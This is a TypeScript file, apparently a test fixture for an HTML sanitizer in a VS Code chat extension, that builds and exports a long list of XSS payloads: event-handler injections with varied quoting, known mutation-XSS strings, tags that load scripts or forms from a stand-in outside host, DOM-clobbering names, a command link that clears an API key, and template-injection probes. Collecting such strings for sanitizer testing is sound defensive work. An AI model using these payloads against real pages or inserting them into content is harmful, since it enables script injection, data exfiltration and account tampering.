import { RUN, STRANGER } from './urls.ts';

const ELEMENTS = [
	...['a', 'img', 'svg', 'video', 'audio', 'details open', 'body', 'input autofocus', 'iframe'],
	...['object', 'embed', 'form', 'math', 'marquee', 'select autofocus', 'textarea autofocus'],
	...['keygen autofocus', 'isindex', 'template', 'custom-element', 'dialog open', 'button popover'],
];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'];

/** Every element with an event handler, quoted in another way each. */
const handlers = ELEMENTS.flatMap((element, index) =>
	HANDLERS.map((handler, at) => {
		const quote = ['"', "'", '', '`'][(index + at) % 4];
		const space = [' ', '/', '\t', '\f'][(index * 3 + at) % 4];
		return `<${element}${space}src=x ${handler}=${quote}${RUN}${quote}>`;
	}),
);

/** What sanitizers have let through when markup was parsed twice, or in another namespace. */
const mutations = [
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x><text y=9>x</text></a></svg>`,
	`<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>`,
	`<svg><script href="//${STRANGER}/x.js"/></svg>`,
	`<svg><image href="https://${STRANGER}/x.png"/></svg>`,
	`<svg><style>@import url(//${STRANGER}/x.css)</style></svg>`,
	`<math href="javascript:${RUN}">x</math>`,
	`<math><maction actiontype="statusline#https://${STRANGER}" xlink:href="javascript:${RUN}">x</maction></math>`,
	`<x/onclick=${RUN}>x`,
	`<xmp><svg></xmp><img src=x onerror=${RUN}>`,
	`<title><a href="</title><img src=x onerror=${RUN}>">`,
	`<!--><img src=x onerror=${RUN}>-->`,
	`<![CDATA[><img src=x onerror=${RUN}>]]>`,
	`<?xml-stylesheet href="//${STRANGER}/x.xsl"?>`,
	`<%<!--'%><script>${RUN};</script -->`,
	`<<script>${RUN};//<</script>`,
	`<script\\x20src=//${STRANGER}/x.js></script>`,
	`<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
	`<img src="x\` \`<script>${RUN}</script>"\` \`>`,
	`\u0000<script>${RUN}</script>`,
	`&lt;script&gt;${RUN}&lt;/script&gt;`,
	`&#60;script&#62;${RUN}&#60;/script&#62;`,
	`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
	`¼script¾${RUN}¼/script¾`,
];

/** What loads, redirects, restyles or clobbers without a handler. */
const loaders = [
	`<script>${RUN}</script>`,
	`<script src=//${STRANGER}/x.js></script>`,
	`<script type=module>import 'https://${STRANGER}/x.js'</script>`,
	`<iframe src="https://${STRANGER}"></iframe>`,
	`<iframe srcdoc="<img src=https://${STRANGER}/x.png>"></iframe>`,
	`<object data="https://${STRANGER}/x.swf"></object>`,
	`<embed src="//${STRANGER}/x">`,
	`<link rel=stylesheet href=//${STRANGER}/x.css>`,
	`<link rel=prefetch href=//${STRANGER}/x><link rel=preconnect href=//${STRANGER}><link rel=dns-prefetch href=//${STRANGER}>`,
	`<style>@import '//${STRANGER}/x.css'; body{background:url(//${STRANGER}/x)}</style>`,
	`<div style="background:url(https://${STRANGER}/x.png)">x</div>`,
	`<div style="width:expression(${RUN})">x</div>`,
	`<meta http-equiv=refresh content="0;url=//${STRANGER}">`,
	`<meta http-equiv=Content-Security-Policy content="default-src *">`,
	`<base href="https://${STRANGER}/">`,
	`<form action="https://${STRANGER}"><input name=q value=secret><button>Go</button></form>`,
	`<video poster=//${STRANGER}/x.png><source src=//${STRANGER}/x.mp4></video>`,
	`<picture><source srcset="//${STRANGER}/x.png 1x"><img></picture>`,
	`<img srcset="//${STRANGER}/a.png 1x, //${STRANGER}/b.png 2x">`,
	`<table background="//${STRANGER}/x.png"><td background="//${STRANGER}/y.png"></table>`,
	`<portal src="https://${STRANGER}"></portal>`,
	`<a ping="https://${STRANGER}" href="#">x</a>`,
	`<a href="command:cometGemini.clearApiKey">x</a>`,
	`<form id=strings><input name=textContent></form>`,
	`<img name=acquireVsCodeApi><img id=body><img name=createElement>`,
	`<comet-chat></comet-chat>`,
];

/** What template engines would take for their own. */
const templates = [
	`\${${RUN}}`,
	`{{constructor.constructor('${RUN}')()}}`,
	`{{7*7}}[[7*7]]<%= 7*7 %>`,
	`<!--?lit$123456789$-->`,
	`<?lit$123456789$?>`,
	`lit$123456789$`,
	`{{{__proto__.x}}}`,
];

export const htmlAttacks: readonly string[] = [...handlers, ...mutations, ...loaders, ...templates];
